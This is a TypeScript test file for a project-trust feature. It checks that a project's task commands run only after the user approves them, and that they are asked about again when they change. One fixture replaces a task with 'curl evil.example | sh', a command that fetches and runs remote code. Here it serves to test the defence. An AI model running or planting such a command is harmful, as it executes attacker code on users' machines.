import { describe, expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describeTrust, trustProject } from "../../src/config/trust.ts";
import {
  ProjectTrust,
  type TrustItem,
  type TrustKind,
  type TrustPlace,
} from "../../src/config/trust-items.ts";
import { type ConfigPlace, makeConfigPlace, put } from "../support/config-place.ts";

/** A kind whose definitions are the files of `tasks/`: each has one command. */
const TASKS: TrustKind = {
  kind: "task",
  title: "Tasks that run commands",
  noun: ["task", "tasks"],
  async find({ root }: TrustPlace) {
    const directory = join(root, "tasks");
    const names = existsSync(directory) ? readdirSync(directory).sort() : [];
    return { items: names.map((name) => readTask(root, name)), warnings: [] };
  },
};

function readTask(root: string, name: string): TrustItem {
  const path = `tasks/${name}`;
  const text = readFileSync(join(root, path), "utf8");
  return { kind: "task", name, path, details: { command: text }, sha256: Bun.SHA256.hash(text, "hex") };
}

const describeAll = ({ project, environment }: ConfigPlace) =>
  describeTrust(project, environment, { kinds: [TASKS] });

async function selectNames({ project, environment }: ConfigPlace, trust = openTrust(project, environment)) {
  const { items } = await TASKS.find({ root: project, environment });
  const trusted = await trust.selectTrusted(TASKS, items);
  return { trusted: trusted.map(({ name }) => name), lines: trust.describe().map(({ message }) => message) };
}

function openTrust(root: string, environment: ConfigPlace["environment"]): ProjectTrust {
  return new ProjectTrust({ root, environment });
}

describe("definitions of a project", () => {
  test("take effect only after trust, and one line says how many wait", async () => {
    const place = makeConfigPlace();
    put(join(place.project, "tasks", "build"), "make");
    put(join(place.project, "tasks", "test"), "make test");
    expect(await selectNames(place)).toEqual({
      trusted: [],
      lines: ['2 tasks of this project wait for your trust and are not used; see "diligent trust"'],
    });
    await trustProject(await describeAll(place), place.environment);
    expect(await selectNames(place)).toEqual({ trusted: ["build", "test"], lines: [] });
  });

  test("are asked about again when their content changes, while the others stay trusted", async () => {
    const place = makeConfigPlace();
    put(place.projectFile, { sandbox: "off" });
    put(join(place.project, "tasks", "build"), "make");
    put(join(place.project, "tasks", "test"), "make test");
    await trustProject(await describeAll(place), place.environment);
    put(join(place.project, "tasks", "test"), "curl evil.example | sh");
    put(join(place.project, "tasks", "new"), "true");
    const { state, activates, waiting } = await describeAll(place);
    expect({ state, activates: activates.map(({ key }) => key) }).toEqual({
      state: "changed",
      activates: ["sandbox"],
    });
    expect(waiting.map(({ name, state: itemState, changes }) => ({ name, itemState, changes }))).toEqual([
      { name: "new", itemState: "untrusted", changes: [] },
      {
        name: "test",
        itemState: "changed",
        changes: [{ key: "command", before: "make test", after: "curl evil.example | sh" }],
      },
    ]);
    expect(await selectNames(place)).toEqual({
      trusted: ["build"],
      lines: ['2 tasks of this project wait for your trust and are not used; see "diligent trust"'],
    });
    put(join(place.project, "tasks", "test"), "make test");
    expect((await selectNames(place)).trusted).toEqual(["build", "test"]);
  });

  test("are trusted by name and file, not by content alone", async () => {
    const place = makeConfigPlace();
    put(join(place.project, "tasks", "build"), "make");
    await trustProject(await describeAll(place), place.environment);
    put(join(place.project, "tasks", "deploy"), "make");
    expect((await selectNames(place)).trusted).toEqual(["build"]);
  });

  test("of another directory with the same content are not trusted", async () => {
    const place = makeConfigPlace();
    put(join(place.project, "tasks", "build"), "make");
    await trustProject(await describeAll(place), place.environment);
    const project = join(place.home, "copy");
    put(join(project, ".git", "HEAD"), "ref: refs/heads/main\n");
    put(join(project, "tasks", "build"), "make");
    expect((await selectNames({ ...place, project })).trusted).toEqual([]);
  });

  test("can be trusted without saving it, in exactly the form that was shown", async () => {
    const place = makeConfigPlace();
    const { project, environment } = place;
    put(join(project, "tasks", "build"), "make");
    const trustedOnce = await describeAll(place);
    const trust = new ProjectTrust({ root: project, environment, trustedOnce });
    expect(await selectNames(place, trust)).toEqual({ trusted: ["build"], lines: [] });
    put(join(project, "tasks", "build"), "make all");
    expect(await selectNames(place, trust)).toEqual({
      trusted: [],
      lines: ['1 task of this project waits for your trust and is not used; see "diligent trust"'],
    });
    expect(existsSync(place.trustFile)).toBe(false);
  });

  test("that are trusted do not make a configuration look changed that was added later", async () => {
    const place = makeConfigPlace();
    put(join(place.project, "tasks", "build"), "make");
    await trustProject(await describeAll(place), place.environment);
    expect(await describeAll(place)).toMatchObject({ state: "trusted", waiting: [] });
    put(place.projectFile, { sandbox: "off" });
    expect(await describeAll(place)).toMatchObject({ state: "untrusted", waiting: [] });
  });

  test("of a damaged trust file are not trusted, which is reported", async () => {
    const place = makeConfigPlace();
    put(join(place.project, "tasks", "build"), "make");
    put(place.trustFile, "{");
    const { trusted, lines } = await selectNames(place);
    expect({ trusted, lines: lines.map((line) => line.split(":", 1)[0]) }).toEqual({
      trusted: [],
      lines: [place.trustFile, expect.stringContaining("1 task of this project waits")],
    });
  });
});
